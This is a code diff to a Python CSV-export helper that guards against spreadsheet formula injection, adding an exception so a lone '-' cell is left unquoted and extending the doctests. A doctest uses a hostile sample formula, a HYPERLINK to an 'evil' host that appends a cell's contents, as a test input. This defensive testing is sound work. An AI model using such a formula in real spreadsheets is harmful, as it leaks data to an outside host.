@@ -20,6 +20,9 @@ from typing import Any, Protocol
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 #: What goes before such a cell.
 QUOTE = "'"
+#: Cells written as they are although they begin with a formula character: a lone 「-」 (renkei's "no rating" and
+#: "nothing stated" mark) is text to every spreadsheet and runs nothing.
+PLAIN = frozenset({"-"})
 
 
 def neutralise(text: str) -> str:
@@ -27,10 +30,10 @@ def neutralise(text: str) -> str:
 
     >>> neutralise('=HYPERLINK("http://evil"&A1,"click")')
     '\\'=HYPERLINK("http://evil"&A1,"click")'
-    >>> [neutralise(t) for t in ("@SUM(1+1)", "+81 93", "-5", "\\t=1", "北九州市", "", "a=b")]
-    ["'@SUM(1+1)", "'+81 93", "'-5", "'\\t=1", '北九州市', '', 'a=b']
+    >>> [neutralise(t) for t in ("@SUM(1+1)", "+81 93", "-5", "\\t=1", "北九州市", "", "a=b", "-", "--")]
+    ["'@SUM(1+1)", "'+81 93", "'-5", "'\\t=1", '北九州市', '', 'a=b', '-', "'--"]
     """
-    return QUOTE + text if text.startswith(FORMULA_STARTS) else text
+    return QUOTE + text if text.startswith(FORMULA_STARTS) and text not in PLAIN else text
 
 
 def csv_cell(value: object) -> object:
